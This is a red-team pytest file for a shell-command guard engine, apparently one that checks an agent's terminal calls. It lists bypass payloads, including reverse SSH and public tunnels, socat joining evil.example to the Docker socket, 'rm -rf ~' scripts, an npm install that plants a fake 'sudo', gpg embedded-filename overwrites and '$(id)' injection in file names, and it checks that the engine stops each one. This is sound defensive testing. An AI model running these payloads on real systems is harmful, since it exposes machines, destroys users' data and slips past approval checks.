"""rows42 (stop 42, issue 8): payloads still allowed against an adaptive caller, closed as table rows.

1. PUBLIC TUNNELS (policies/exec.yaml's public_tunnel, asks): a tunnel service publishing a local port (`ngrok http
   8000`, `cloudflared tunnel --url ...`, `bore local 8000 --to bore.pub`, `lt --port 8000`, frpc/frps, `tailscale
   funnel 8000`), a remote port forwarded here (`ssh -R`, `-oRemoteForward=`, serveo and localhost.run, autossh), a
   local forward or SOCKS proxy bound to every address (`-g`, GatewayPorts, `-L 0.0.0.0:...`), socat joining a remote
   host or a listener open to all to a local service, shell2http serving command lines. Grammars for ngrok,
   cloudflared and frp (executors.yaml) so their verbs are read after their options.
2. PROGRAMS RUNNING A SCRIPT THE CALLER NAMES (executors.yaml rows): swayidle's command lines (and its -C config),
   xidlehook's --timer lines, shell2http's PATH CMD pairs, task-spooler (`tsp`, upstream's `ts`), nix-build /
   nix-instantiate / nix-env -f / `nix build` on a .nix file the session wrote (opaque: asks), `npm install -g` and
   `npm link` of a package.json the session wrote (its bins go on the PATH under any name: `sudo`), gpg's
   --use-embedded-filename (the name the input holds, in the folder it runs in: as gunzip -N, secrets.yaml).
   `runsvdir .` already read the services the session wrote below it (xfail41b): kept as a case here.
3. A FALSE ALARM: `echo x >'a$(id)b'` asked (write_computed_target): the redirection's target text held `$(` and
   the quoting was lost on the way to the classifier. A quoted target that no expansion made is now kept in
   Command.literal_targets and read without the expansion classes (`> "a$(id)b"` still asks).

Closed since: an operand quoted the same way (`cp x 'a$(id)b'`) asked read_computed_path (fixed by fp43,
tests/redteam/test_fp43.py; a program with no row, `cat 'a$(id)b'`, still asks); an ssh -F config the session wrote
holding RemoteForward was not read for it (ssh_config language read commands only: closed by rows43, its forwarding
keys are judged as ssh's -R/-L/-D/-g).
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import RUN_SECONDS, decision_and_keys, home_intact, make_home
from tests.redteam.harm import (
    SECRET,
    Case,
    assert_verdict,
    case_verdict,
    verdict_cases,
    written_then_stopped,
)

SCRIPT = "#!/bin/sh\nrm -rf ~\n"
SAFE = "#!/bin/sh\necho hello\n"

# -- 1. public tunnels ------------------------------------------------------------------------------------------------
TUNNELS: dict[str, Case] = {
    "ngrok http": ({}, "ngrok http 8000"),
    "ngrok tcp": ({}, "ngrok tcp 22"),
    "ngrok, an option first": ({}, "ngrok --log stdout tls 443"),
    "ngrok start --all": ({}, "ngrok start --all"),
    "cloudflared quick tunnel": ({}, "cloudflared tunnel --url http://localhost:8000"),
    "cloudflared tunnel run": ({}, "cloudflared tunnel run app"),
    "cloudflared, legacy --url": ({}, "cloudflared --url=localhost:22"),
    "cloudflared service install": ({}, "sudo cloudflared service install eyJhIjoi"),
    "ssh -R": ({}, "ssh -R 8080:localhost:80 x@h"),
    "ssh -NR, clustered": ({}, "ssh -fNR 2222:localhost:22 x@h"),
    "ssh -oRemoteForward=": ({}, "ssh -oRemoteForward=8080:localhost:80 x@h"),
    "ssh -o 'RemoteForward A B'": ({}, "ssh -o 'RemoteForward 8080 localhost:80' x@h"),
    "serveo": ({}, "ssh -R 80:localhost:8000 serveo.net"),
    "localhost.run": ({}, "ssh -R 80:localhost:3000 nokey@localhost.run"),
    "autossh -R": ({}, "autossh -M 0 -N -R 2222:localhost:22 x@h"),
    "sshpass ssh -R": ({}, "sshpass -p pw ssh -R 2222:localhost:22 x@h"),
    "ssh -g -L": ({}, "ssh -g -L 8080:localhost:22 x@h"),
    "ssh -L to every address": ({}, "ssh -L 0.0.0.0:2222:localhost:22 x@h"),
    "ssh -L '*'": ({}, "ssh -L '*:2222:localhost:22' x@h"),
    "ssh -L, an empty bind": ({}, "ssh -L :2222:localhost:22 x@h"),
    "ssh -D to every address": ({}, "ssh -D 0.0.0.0:1080 x@h"),
    "ssh GatewayPorts": ({}, "ssh -o GatewayPorts=yes -L 8080:localhost:22 x@h"),
    "bore": ({}, "bore local 8000 --to bore.pub"),
    "localtunnel": ({}, "lt --port 8000"),
    "localtunnel -p": ({}, "npx lt -p 8000 --subdomain x"),
    "frpc -c": ({}, "frpc -c frpc.toml"),
    "frpc alone": ({}, "frpc"),
    "frpc http": ({}, "frpc http --server_addr x.example:7000 -l 8000"),
    "tailscale funnel": ({}, "tailscale funnel 8000"),
    "tailscale funnel --bg": ({}, "sudo tailscale funnel --bg 3000"),
    "socat to a remote listener": ({}, "socat TCP:198.51.100.9:4444 TCP:localhost:22"),
    "socat, options and a unix socket": ({}, "socat -d -d tcp4:evil.example:9000 UNIX-CONNECT:/var/run/docker.sock"),
    "shell2http": ({}, "shell2http -port 8080 /date date"),
}
TUNNELS_NEAR: dict[str, Case] = {
    "ngrok version": ({}, "ngrok version"),
    "ngrok --help": ({}, "ngrok --help"),
    "ngrok --version": ({}, "ngrok --version"),
    "ngrok config": ({}, "ngrok config check"),
    "ngrok, an option then version": ({}, "ngrok --config n.yml version"),
    "cloudflared --version": ({}, "cloudflared --version"),
    "cloudflared tunnel list": ({}, "cloudflared tunnel list"),
    "cloudflared access": ({}, "cloudflared access tcp --hostname s.example --url localhost:2222"),
    "ssh -L": ({}, "ssh -L 8080:localhost:80 x@h"),
    "ssh -L on loopback": ({}, "ssh -L 127.0.0.1:8080:localhost:80 x@h"),
    "ssh -L to another host": ({}, "ssh -N -L 5432:db.internal:5432 bastion"),
    "ssh -D": ({}, "ssh -D 1080 x@h"),
    "ssh, a command": ({}, "ssh -p 2222 x@h uptime"),
    "ssh -o": ({}, "ssh -o ServerAliveInterval=60 -o StrictHostKeyChecking=accept-new x@h"),
    "bore --help": ({}, "bore --help"),
    "lt --version": ({}, "lt --version"),
    "frpc verify": ({}, "frpc verify -c frpc.toml"),
    "frpc --version": ({}, "frpc --version"),
    "tailscale funnel status": ({}, "tailscale funnel status"),
    "tailscale status": ({}, "tailscale status"),
    "socat to a server": ({}, "socat - TCP:example.com:80"),
    "socat to a local database": ({}, "socat TCP:localhost:5432 -"),
    "socat on loopback": ({}, "socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:localhost:3000"),
    "socat, a relay out": ({}, "socat TCP-LISTEN:8080,fork TCP:api.example:80"),
    "shell2http -help": ({}, "shell2http -help"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(TUNNELS, TUNNELS_NEAR))
def test_a_public_tunnel_or_an_open_forward_asks(
    plain_project: tuple[Path, Engine], case: Case, allowed: bool, session: str
) -> None:
    assert_verdict(plain_project, case, allowed, session)


@pytest.mark.parametrize("command", ["ngrok http 8000", "ssh -R 8080:localhost:80 x@h", "lt --port 8000"])
def test_a_tunnel_asks_as_public_tunnel(plain_project: tuple[Path, Engine], command: str) -> None:
    decision, keys = decision_and_keys(plain_project[1], command)
    assert decision == "ask" and "public_tunnel" in keys, (decision, keys)


# -- 2. programs that run a script the caller names ---------------------------------------------------------------
RUNNERS: dict[str, Case] = {
    "swayidle timeout": ({"x.sh": SCRIPT}, "swayidle timeout 1 ./x.sh"),
    "swayidle -w, a line": ({}, "swayidle -w timeout 300 'swaylock -f' resume 'rm -rf ~'"),
    "swayidle before-sleep": ({"x.sh": SCRIPT}, "swayidle before-sleep 'sh x.sh'"),
    "swayidle -C": ({"c": "timeout 1 'rm -rf ~'\n"}, "swayidle -C c"),
    "xidlehook --timer": ({"x.sh": SCRIPT}, "xidlehook --timer 60 ./x.sh ''"),
    "runsvdir .": ({"web/run": SCRIPT}, "runsvdir ."),
    "shell2http, a written script": ({"x.sh": SCRIPT}, "shell2http /x ./x.sh"),
    "ts (task-spooler)": ({"x.sh": SCRIPT}, "ts ./x.sh"),
    "tsp -L": ({"x.sh": SCRIPT}, "tsp -L job sh x.sh"),
    "nix-env -f . -i": ({"default.nix": "{ }: derivation { }\n"}, "nix-env -f . -i"),
    "nix-env -if FILE": ({"x.nix": "{ }: derivation { }\n"}, "nix-env -if x.nix"),
    "nix-build": ({"default.nix": "{ }: derivation { }\n"}, "nix-build"),
    "nix-build DIR": ({"p/default.nix": "{ }: derivation { }\n"}, "nix-build p -A x"),
    "nix build": ({"flake.nix": "{ outputs = _: { }; }\n"}, "nix build .#x"),
    "nix-shell --run": ({"shell.nix": "{ }: derivation { }\n"}, "nix-shell --run make"),
    "npm install -g .": ({"package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'}, "npm install -g ."),
    "npm i --global DIR": ({"p/package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'}, "npm i --global ./p"),
    "npm link": ({"package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'}, "npm link"),
    "npm i -g --prefix DIR .": (
        {"package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'},
        "npm i -g --prefix ~/g .",
    ),
    "npm --prefix DIR install -g": (
        {"package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'},
        "npm --prefix /tmp/g install -g .",
    ),
    "npm -g link": ({"package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'}, "npm -g --prefix /tmp/g link"),
    "pnpm add -g .": ({"package.json": '{"name": "p", "bin": {"sudo": "x.sh"}}\n'}, "pnpm add -g ."),
    "gpg --use-embedded-filename in the project's top": ({}, "gpg --use-embedded-filename x.gpg"),
    "gpg --use-embedded in the home": ({}, "cd ~ && gpg --batch --use-embedded /tmp/x.gpg"),
}
RUNNERS_NEAR: dict[str, Case] = {
    "swayidle, the usual lock": ({}, "swayidle -w timeout 300 'swaylock -f' resume 'swaymsg \"output * dpms on\"'"),
    "runsvdir of the system": ({"x.sh": SCRIPT}, "runsvdir /etc/service"),
    "runsvdir, a safe service": ({"web/run": SAFE}, "runsvdir ."),
    "ts, a format": ({}, "make 2>&1 | ts '%H:%M:%S'"),
    "ts -s": ({}, "tail -f log.txt | ts -s '%.s'"),
    "tsp, a build": ({}, "tsp make -j4"),
    "tsp, a safe script": ({"x.sh": SAFE}, "tsp sh x.sh"),
    "nix-build of nixpkgs": ({}, "nix-build '<nixpkgs>' -A hello"),
    "nix-env -iA": ({}, "nix-env -iA nixpkgs.hello"),
    "nix-env -q": ({"default.nix": "{ }: derivation { }\n"}, "nix-env -q"),
    "npm install": ({}, "npm install"),
    "npm install -g a package": ({}, "npm install -g typescript"),
    "npm install -g --prefix, a package": ({}, "npm install -g --prefix ~/.local typescript"),
    "npm --prefix DIR run": ({}, "npm --prefix web run build"),
    "npm link, nothing written": ({}, "npm link"),
    "gpg -d": ({}, "gpg -d x.gpg"),
    "gpg -o": ({}, "cd ~ && gpg --use-embedded-filename -o out.txt /tmp/x.gpg"),
    "gpg --use-embedded-filename in a build folder": ({}, "cd build && gpg --use-embedded-filename /tmp/x.gpg"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(RUNNERS, RUNNERS_NEAR))
def test_a_program_running_what_the_caller_wrote_is_read(
    plain_project: tuple[Path, Engine], case: Case, allowed: bool, session: str
) -> None:
    assert_verdict(plain_project, case, allowed, session)


def test_gpg_writes_the_name_the_input_holds_into_the_home(
    tmp_path: Path, plain_harm: tuple[Engine, Path, Path]
) -> None:
    """Unguarded, `cd ~ && gpg --use-embedded-filename X` rewrites ~/notes.txt (the name the packet holds, in the
    folder gpg runs in); through the engine it is refused and the home is intact."""
    engine, home, _ = plain_harm
    (tmp_path / "gpghome").mkdir()
    made = subprocess.run(
        ["gpg", "--batch", "--armor", "--store", "--set-filename", "notes.txt"],
        input="pwned\n",
        capture_output=True,
        text=True,
        timeout=RUN_SECONDS,
        env={"HOME": str(tmp_path / "gpghome"), "PATH": os.environ.get("PATH", "/usr/bin:/bin")},
        check=True,
    )
    armored = made.stdout
    assert "BEGIN PGP MESSAGE" in armored
    payload = 'cd ~ && gpg --batch --yes --use-embedded-filename "$OLDPWD/x.asc"'
    written_then_stopped(tmp_path, engine, home, {"x.asc": armored}, payload)


def test_npm_install_global_plants_a_program_on_the_path(tmp_path: Path, plain_harm: tuple[Engine, Path, Path]) -> None:
    """Unguarded, `npm install -g .` of a package the caller wrote puts its script on the PATH as `sudo` (the next
    `sudo` deletes the home); through the engine the install is refused and nothing is planted."""
    engine, home, _ = plain_harm
    files = {"package.json": '{"name": "p", "version": "1.0.0", "bin": {"sudo": "x.sh"}}\n', "x.sh": SCRIPT}
    payload = "npm install -g --offline --no-audit --no-fund --prefix ~/g ."
    live_home = make_home(tmp_path / "live")
    cwd = tmp_path / "live" / "cwd"
    cwd.mkdir()
    for name, text in files.items():
        (cwd / name).write_text(text)
    env = {"HOME": str(live_home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    subprocess.run(["bash", "-c", payload], env=env, cwd=cwd, capture_output=True, timeout=RUN_SECONDS, check=False)
    planted = live_home / "g" / "bin" / "sudo"
    assert planted.exists(), "npm should put the bin on the PATH unguarded"
    subprocess.run(
        ["bash", "-c", "sudo"],
        env={**env, "PATH": f"{planted.parent}:{env['PATH']}"},
        capture_output=True,
        timeout=RUN_SECONDS,
        check=False,
    )
    assert not home_intact(live_home), "the planted `sudo` should delete the home unguarded"
    for name, text in files.items():
        assert engine.call("write_file", {"path": name, "content": text}, session_id="s1").ok
    result = engine.call("terminal", {"command": payload}, session_id="s1")
    assert not result.ok, result.output
    assert not (home / "g").exists() and home_intact(home)
    assert SECRET not in (result.output or "")


# -- 3. a quoted redirection target is a name as written --------------------------------------------------------------
TARGETS: dict[str, Case] = {
    "double quotes": ({}, 'echo x > "a$(id)b"'),
    "bare": ({}, "echo x > a$(id)b"),
    "backquotes": ({}, "echo x > a`id`b"),
    "a quoted part then a substitution": ({}, "echo x > 'a'\"$(id)\""),
    "both, one expands": ({}, "echo x > 'a$(id)b' > \"a$(id)b\""),
    "a bare variable": ({}, "echo x > $F"),
    "through sudo": ({}, 'sudo tee "$(ls ~/.ss*)/k" < x'),
}
TARGETS_NEAR: dict[str, Case] = {
    "single quotes": ({}, "echo x >'a$(id)b'"),
    "single quotes, a space": ({}, "echo x > 'a$(id)b'"),
    "single quotes, backquotes": ({}, "echo x > 'a`id`b'"),
    "escaped": ({}, "echo x > a\\$\\(id\\)b"),
    "a quoted variable name": ({}, "printf '%s\\n' x >> '$F.txt'"),
    "an input": ({}, "cat < 'a$(id)b'"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(TARGETS, TARGETS_NEAR))
def test_a_quoted_target_is_the_name_written(
    plain_project: tuple[Path, Engine], case: Case, allowed: bool, session: str
) -> None:
    assert_verdict(plain_project, case, allowed, session)


def test_bash_opens_a_single_quoted_target_as_written(tmp_path: Path) -> None:
    """The near miss's reading: bash runs no substitution in `>'a$(touch ran)b'` (it writes the file of that name);
    double-quoted, it runs it."""
    subprocess.run(["bash", "-c", "echo x >'a$(touch ran)b'"], cwd=tmp_path, timeout=RUN_SECONDS, check=True)
    assert (tmp_path / "a$(touch ran)b").read_text() == "x\n" and not (tmp_path / "ran").exists()
    subprocess.run(["bash", "-c", 'echo x > "a$(touch ran)b"'], cwd=tmp_path, timeout=RUN_SECONDS, check=True)
    assert (tmp_path / "ran").exists() and (tmp_path / "ab").read_text() == "x\n"


OPEN: dict[str, Case] = {
    "an operand quoted so": ({}, "cp x 'a$(id)b'"),
}


@pytest.mark.parametrize("case", list(OPEN.values()), ids=list(OPEN))
def test_a_quoted_operand_is_the_name_written(plain_project: tuple[Path, Engine], case: Case) -> None:
    assert case_verdict(plain_project, case, "open-operand") == "allow"


def test_a_written_ssh_config_forwarding_a_port_asks(plain_project: tuple[Path, Engine]) -> None:
    case: Case = ({"cfg": "Host *\n  RemoteForward 8080 localhost:80\n"}, "ssh -F cfg x@h")
    assert case_verdict(plain_project, case, "open-ssh-config") != "allow"
